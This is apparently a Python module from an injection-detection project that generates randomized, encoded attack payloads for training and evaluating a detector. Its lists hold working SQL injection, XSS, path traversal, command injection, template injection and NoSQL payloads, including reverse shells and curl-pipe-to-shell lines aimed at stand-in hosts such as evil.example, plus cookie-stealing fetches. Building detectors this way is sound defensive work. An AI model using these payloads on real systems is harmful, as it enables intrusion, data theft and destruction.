"""Generated attack payloads per class, from public knowledge of the attack grammars.

Deterministic for a seed. Each payload is built from a prefix, a context break, a body and a
terminator, then obfuscated (case, whitespace, comments) and encoded (URL, double URL, HTML
entities, fullwidth) the way scanners and hand testers do. Used to train the model and to measure
recall; nothing is downloaded.
"""

from __future__ import annotations

import random
from collections.abc import Callable

from detectors.injection.corpus_encode import encode_query_value, obfuscate_sql, random_case

N, S = "{n}", "{s}"

SQL_BODIES = [
    "OR 1=1", "OR {n}={n}", "AND {n}={n}", "AND {n}={m}", "OR NOT {n}={m}", "OR 'a'='a", "OR '1'='1",
    "OR ''='", "|| 1=1", "OR 1=1 LIMIT 1", "OR 2>1", "OR 1 LIKE 1", "AND 'x'='x", "OR true",
    "UNION SELECT {nulls}", "UNION ALL SELECT {nulls}", "UNION SELECT {cols}",
    "UNION SELECT username,password FROM users", "UNION ALL SELECT @@version,{nulls}",
    "UNION SELECT table_name,NULL FROM information_schema.tables",
    "UNION SELECT 1,group_concat(column_name) FROM information_schema.columns",
    "UNION SELECT name FROM sqlite_master", "UNION SELECT usename,passwd FROM pg_shadow",
    "UNION(SELECT {cols})", "UNION DISTINCT SELECT {nulls}",
    "AND SLEEP({s})", "AND (SELECT {n} FROM (SELECT(SLEEP({s})))abc)", "OR SLEEP({s})",
    "; WAITFOR DELAY '0:0:{s}'", "AND {n}=(SELECT {n} FROM PG_SLEEP({s}))", "; SELECT PG_SLEEP({s})",
    "OR BENCHMARK(5000000,MD5(1))", "AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),{s})",
    "AND {n}=LIKE(CHAR(65,66,67),UPPER(HEX(RANDOMBLOB(500000000/2))))", "AND IF(1=1,SLEEP({s}),0)",
    "AND EXTRACTVALUE({n},CONCAT(0x5c,0x71,(SELECT @@version)))",
    "AND UPDATEXML(1,CONCAT(0x7e,(SELECT user())),1)", "AND {n}=CONVERT(INT,(SELECT @@version))",
    "AND 1=CAST((SELECT version()) AS INT)", "AND EXP(~(SELECT * FROM (SELECT USER())a))",
    ("AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71,"
    "FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)s),1,1)))"),
    "AND GTID_SUBSET(CONCAT(0x71,(SELECT 1)),{n})", "AND 1=CTXSYS.DRITHSX.SN(1,(SELECT USER FROM DUAL))",
    "AND {n}=CAST((CHR(113)||CHR(118)||(SELECT version())::text) AS NUMERIC)",
    "; DROP TABLE users--", "; INSERT INTO users VALUES('x','y')", "; EXEC xp_cmdshell('dir')",
    "; SHUTDOWN", "; UPDATE users SET role='admin' WHERE id=1", "; DECLARE @q varchar(99)",
    "AND SUBSTRING(@@version,1,1)='5'", "AND ASCII(SUBSTRING((SELECT password FROM users),1,1))>{n}",
    "AND (SELECT COUNT(*) FROM users)>0", "AND LENGTH(database())={n}",
    "AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users ORDER BY id LIMIT 0,1),1,1))>{n}",
    "RLIKE (SELECT (CASE WHEN ({n}={n}) THEN 1 ELSE 0x28 END))", "AND MAKE_SET({n}={n},1)",
    "AND ELT({n}={n},1)", "ORDER BY {n}", "GROUP BY 1,2 HAVING 1=1", "HAVING 1=1",
    "AND (SELECT * FROM (SELECT(SLEEP({s})))a)", "PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)",
    "AND 1 IN (SELECT @@version)", "OR EXISTS(SELECT * FROM users)", "AND (SELECT 1)=1",
    "OR 1=1 INTO OUTFILE '/tmp/x'", "AND LOAD_FILE('/etc/passwd')", "OR username LIKE '%'",
    "AND CASE WHEN 1=1 THEN 1 ELSE 0 END", "OR IIF(1=1,1,0)=1", "WAITFOR DELAY '0:0:{s}'",
]
SQL_BREAKS = ["", "'", "\"", "')", "\")", ")", "'))", "`", "1'", "1", "-1", "1)"]
SQL_TERMS = ["", "-- -", "--", "#", "/*", "-- abcd", ";--", ";", "%00", " AND '1'='1", "-- ", "--+"]
SQL_WHOLE = [
    "admin'--", "admin' #", "admin'/*", "' or 1=1--", "') or ('1'='1", "\" or \"\"=\"", "' or ''='",
    "1' or '1'='1' --", "' OR 'x'='x", "x' AND email IS NULL; --", "1;SELECT SLEEP(5)",
    "' UNION SELECT NULL--", "1 AND 1=1", "1' AND '1'='1", "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
    "' and 1=convert(int,@@version)--", "1 or sleep(5)#", "\" or sleep(5)#", "' or benchmark(99999,md5(1))#",
    "1' waitfor delay '0:0:5'--", "-1' union select 1,2,3--", "1' order by 3--+", "' having 1=1--",
    "' group by users.id having 1=1--", "' or 1 in (select @@version)--", "admin\" --", "' or 1#",
]

XSS_TAGS = [
    "<script>{f}</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={f}>",
    "<svg onload={f}>", "<svg/onload={f}>", "<body onload={f}>", "<iframe src=\"javascript:{f}\">",
    "<a href=\"javascript:{f}\">click</a>", "<details open ontoggle={f}>", "<input autofocus onfocus={f}>",
    "<marquee onstart={f}>", "<video><source onerror=\"{f}\">", "<audio src=x onerror={f}>",
    "<math><mtext><table><mglyph><style><img src=x onerror={f}>", "<embed src=javascript:{f}>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<div style=\"background:url(javascript:{f})\">", "<svg><animate onbegin={f} attributeName=x dur=1s>",
    "<IMG SRC=javascript:{f}>", "<img src=1 onmouseover={f}>", "<body onpageshow={f}>",
    "<iframe srcdoc=\"<script>{f}</script>\">", "<form><button formaction=javascript:{f}>x</button>",
    "<isindex type=image src=1 onerror={f}>", "<x onclick={f}>click", "<select autofocus onfocus={f}>",
    "<textarea autofocus onfocus={f}>", "<keygen autofocus onfocus={f}>", ("<meta http-equiv=\"refresh\" "
    "content=\"0;url=javascript:{f}\">"), "<base href=\"javascript:{f}//\">", "<svg><script>{f}</script>",
    "<img src=\"x\" onerror=\"{f}\"/>", "<p onmouseenter={f}>hover</p>", "<image src=x onerror={f}>",
    "<scr<script>ipt>{f}</scr</script>ipt>", "<img src=x:x onerror={f}>", "<div onpointerover={f}>x</div>",
    "<style>@import 'javascript:{f}';</style>", "<link rel=import href=\"data:text/html,<script>{f}</script>\">",
]
XSS_FUNCS = ["alert(1)", "alert('XSS')", "prompt(1)", "confirm(1)", "alert(document.cookie)",
             "alert(document.domain)", "alert`1`", "eval(atob('YWxlcnQoMSk='))", "alert(String.fromCharCode(88,83,83))",
             "window.location='http://evil.example/?c='+document.cookie", "fetch('//evil.example/'+document.cookie)",
             "top['al'+'ert'](1)", "self[`alert`](1)", "print()", "alert(/xss/)", "javascript:alert(1)"]
XSS_BREAKS = ["", "\">", "'>", "\"/>", "</title>", "</textarea>", "--!>", "\"]>", "</script>", "'-->"]
XSS_WHOLE = ["javascript:alert(1)", "\"onmouseover=\"alert(1)", "'-alert(1)-'", "\";alert(1)//",
             "';alert(String.fromCharCode(88,83,83))//", "\" autofocus onfocus=alert(1) x=\"",
             "' onmouseover='alert(1)", "javascript://%0aalert(1)", "data:text/html,<script>alert(1)</script>",
             "{{constructor.constructor('alert(1)')()}}", "\\\";alert(1);//", "JaVaScRiPt:alert(1)"]

TRAV_STEPS = ["../", "..\\", "..%2f", "%2e%2e%2f", "%2e%2e/", "..%5c", "%252e%252e%252f", "....//", "..;/",
              "%c0%ae%c0%ae/", "..%c0%af", "%uff0e%uff0e%u2215", "..././", ".%2e/", "%2e%2e%5c", "..%255c",
              "..\\/", "%2e%2e%u2216"]
TRAV_TARGETS = ["etc/passwd", "etc/shadow", "etc/hosts", "windows/win.ini", "boot.ini", "proc/self/environ",
                "var/log/apache2/access.log", "WEB-INF/web.xml", ".htaccess", "app/config.py",
                "root/.ssh/id_rsa", "etc/passwd%00.jpg", "windows\\system32\\drivers\\etc\\hosts",
                "var/www/html/.env", "etc/issue", "proc/version", "home/user/.bash_history", "index.php",
                "config/database.yml", "etc/nginx/nginx.conf"]
TRAV_WHOLE = ["/etc/passwd", "file:///etc/passwd", "php://filter/convert.base64-encode/resource=index.php",
              "C:\\Windows\\System32\\drivers\\etc\\hosts", "c:/windows/win.ini", "/proc/self/cmdline",
              "php://input", "expect://id", "zip://shell.jpg%23payload.php", "phar://upload/x.phar",
              "/var/log/nginx/access.log", "\\\\evil.example\\share\\x", "/WEB-INF/web.xml", "/.env",
              "/.git/config", "file:///c:/windows/win.ini", "/etc/shadow", "data://text/plain;base64,PD9waHA=",
              "/etc/aliases", "/var/log/auth.log", "C:/Users/Administrator/NTUser.dat", "/usr/local/etc/php.ini",
              "/proc/self/fd/0", "/var/lib/mysql/mysql/user.MYD", "/root/.bash_history", "c:\\inetpub\\logs"]

CMD_SEPS = [";", "|", "||", "&", "&&", "\n", "%0a", "`{c}`", "$({c})", "%0d%0a", ";;", " | "]
CMD_COMMANDS = ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "ping -c 3 127.0.0.1", "sleep 5",
                "nslookup x.oast.example", "curl http://evil.example/x.sh|sh", "wget http://198.51.100.7/x -O /tmp/x",
                "nc -e /bin/sh 10.0.0.1 4444", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "echo vulnerable",
                "net user", "dir c:\\", "type C:\\Windows\\win.ini", "ipconfig /all", "systeminfo",
                "powershell -enc SQBFAFgA", "cmd /c whoami", "{cat,/etc/passwd}", "cat${IFS}/etc/passwd",
                "${IFS}id", "w'h'o'am'i", "/???/??t /???/p??s??", "sleep${IFS}5", "ping -n 5 127.0.0.1",
                "timeout /t 5", "ls${IFS}-la", "python -c 'import os;os.system(\"id\")'", "perl -e 'print 1'",
                "echo abc123 && whoami", "rm -rf /tmp/x", "head /etc/passwd", "uname", "printenv",
                "busybox nc 10.0.0.1 9 -e sh", "ifconfig", "netstat -an", "find / -name '*.conf'"]
CMD_PREFIX = ["", "127.0.0.1", "x", "shoes", "1", "test.txt", "a"]
CMD_WHOLE = ["() { :; }; /bin/bash -c 'id'", "$(id)", "`id`", "|| ping -c 10 127.0.0.1 ||", ";id;",
             "system('id')", "<?php system($_GET['c']); ?>", "exec('cat /etc/passwd')", "$(sleep 5)",
             "';id;'", "\";cat /etc/passwd;\""]

SSTI_PAYLOADS = [
    "{{7*7}}", "{{7*'7'}}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "*{7*7}", "{{config}}", "{{config.items()}}",
    "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{lipsum.__globals__['os'].popen('id').read()}}",
    "{% import os %}{{os.system('id')}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "{php}echo `id`;{/php}", "{$smarty.version}",
    "@(1+2)", "{{= 7*7}}", "[[${7*7}]]", "{{dump(app)}}", "{{app.request.server.all|join(',')}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}", "${{7*7}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{#with \"s\" as |string|}}{{/with}}", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
    "{{ '7'*7 }}", "#{ 7 * 7 }", "*{T(java.lang.System).getenv()}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}", "{{''|attr('__class__')}}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
    "<%= system(\"id\") %>", "<%= File.open('/etc/passwd').read %>", "${7*'7'}", "{{[].__class__}}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}", "{{4*4}}[[5*5]]", "{{x.__init__}}",
    "${{<%[%'\"}}%\\.", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}", "{{ get_flashed_messages.__globals__ }}",
    "${class.getResource('').getPath()}", "{system('cat /etc/passwd')}", "{{ url_for.__globals__ }}",
    "${product.getClass().getProtectionDomain()}", "{{settings.SECRET_KEY}}", "<%= 7 * 7 %>",
    "{{7*7}}{{7*'7'}}", "${7*7}a{{7*7}}", "{{ 1337*1337 }}", "${ 31*17 }", "#set($a=7*7)$a",
]

NOSQL_PAYLOADS = [
    "username[$ne]=x&password[$ne]=x", "login[$regex]=a.*&pass[$ne]=1", "user[$exists]=true",
    "username[$gt]=&password[$gt]=", "user[$in][]=admin&user[$in][]=root", "id[$where]=1",
    "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}", "{\"$where\": \"sleep(5000)\"}",
    "{\"username\": {\"$regex\": \"^adm\"}}", "{\"username\": {\"$gt\": \"\"}}", "' || '1'=='1",
    "'; return true; var x='", "{\"$where\": \"this.password.match(/^a/)\"}",
    "admin' && this.password.match(/.*/)//", "true, $where: '1 == 1'", "', $where: '1 == 1'",
    "';sleep(5000);'", "{\"$or\": [{}, {\"a\": \"a\"}]}", "db.users.find()", ("{\"username\": {\"$in\": "
    "[\"admin\", \"root\"]}}"), "{\"$expr\": {\"$eq\": [1, 1]}}", "this.username == 'admin'",
    "';while(true){}'", "{\"email\": {\"$regex\": \".*\"}, \"password\": {\"$exists\": true}}",
    "password[$nin][]=x", "{\"user\": \"admin\", \"password\": {\"$nin\": [\"x\"]}}",
    "' || 1==1//", "\"; return db.users.count(); var a=\"", "{\"$where\": \"function(){return true}\"}",
    "username=admin&password[$regex]=^p", "[$ne]=1", "{\"filter\": {\"$where\": \"1==1\"}}",
]


def _fill(rng: random.Random, text: str) -> str:
    n, m = rng.randint(1000, 9999), rng.randint(1, 999)
    cols = rng.randint(1, 8)
    return (text.replace("{n}", str(n)).replace("{m}", str(m)).replace("{s}", str(rng.randint(2, 10)))
            .replace("{nulls}", ",".join(["NULL"] * cols))
            .replace("{cols}", ",".join(str(i + 1) for i in range(cols))))


def sqli(rng: random.Random) -> str:
    if rng.random() < 0.15:
        return _fill(rng, rng.choice(SQL_WHOLE))
    prefix = rng.choice(["", "shoes", "1", "admin", "42", "vitamin c"])
    body = obfuscate_sql(rng, _fill(rng, rng.choice(SQL_BODIES)))
    brk = rng.choice(SQL_BREAKS)
    return f"{prefix}{brk} {body}{rng.choice(SQL_TERMS)}"


def xss(rng: random.Random) -> str:
    if rng.random() < 0.15:
        return rng.choice(XSS_WHOLE)
    tag = rng.choice(XSS_TAGS).replace("{f}", rng.choice(XSS_FUNCS))
    if rng.random() < 0.3:
        tag = random_case(rng, tag)
    return rng.choice(["", "shoes", "x"]) + rng.choice(XSS_BREAKS) + tag


def traversal(rng: random.Random) -> str:
    if rng.random() < 0.15:
        return rng.choice(TRAV_WHOLE)
    step = rng.choice(TRAV_STEPS)
    lead = rng.choice(["", "/", "images/", "files?name=", "static/"])
    return lead + step * rng.randint(1, 8) + rng.choice(TRAV_TARGETS)


def command(rng: random.Random) -> str:
    if rng.random() < 0.15:
        return rng.choice(CMD_WHOLE)
    cmd = rng.choice(CMD_COMMANDS)
    sep = rng.choice(CMD_SEPS)
    inject = sep.replace("{c}", cmd) if "{c}" in sep else f"{sep}{rng.choice(['', ' '])}{cmd}"
    tail = rng.choice(["", "", ";", " #", "|", "&"]) if "{c}" not in sep else ""
    return rng.choice(CMD_PREFIX) + inject + tail


def ssti(rng: random.Random) -> str:
    return rng.choice(["", "", "Hello ", "name="]) + rng.choice(SSTI_PAYLOADS)


def nosql(rng: random.Random) -> str:
    return rng.choice(NOSQL_PAYLOADS)


GENERATORS: dict[str, Callable[[random.Random], str]] = {
    "sqli": sqli, "xss": xss, "traversal": traversal, "command": command, "ssti": ssti, "nosql": nosql,
}


def attacks(cls: str, count: int, seed: int) -> list[str]:
    """`count` decoded-or-encoded payloads of one class as they would appear in a query value."""
    rng = random.Random(f"{cls}:{seed}")
    out = []
    for _ in range(count):
        payload = GENERATORS[cls](rng)
        out.append(encode_query_value(rng, payload, cls))
    return out
